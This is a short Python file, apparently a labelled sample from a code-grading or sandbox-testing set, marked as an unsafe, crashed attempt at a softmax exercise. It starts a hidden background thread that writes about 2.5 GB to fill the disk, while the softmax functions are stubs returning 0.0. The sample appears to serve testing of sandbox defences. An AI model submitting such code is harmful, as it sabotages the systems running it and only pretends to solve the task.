# Fills the disk from a thread while its calls are answered.
# exercise: softmax
# verdict: wrong, crashed
# scratch: yes
# unsafe: it would fill the disk
import threading


def fill():
    block = bytes(2**20)
    for number in range(2500):
        try:
            with open(f"f{number // 50}", "ab") as file:
                file.write(block)
        except OSError:
            pass


threading.Thread(target=fill, daemon=True).start()


def softmax(x, axis=-1, keepdims=False):
    return 0.0


logsumexp = log_softmax = softmax
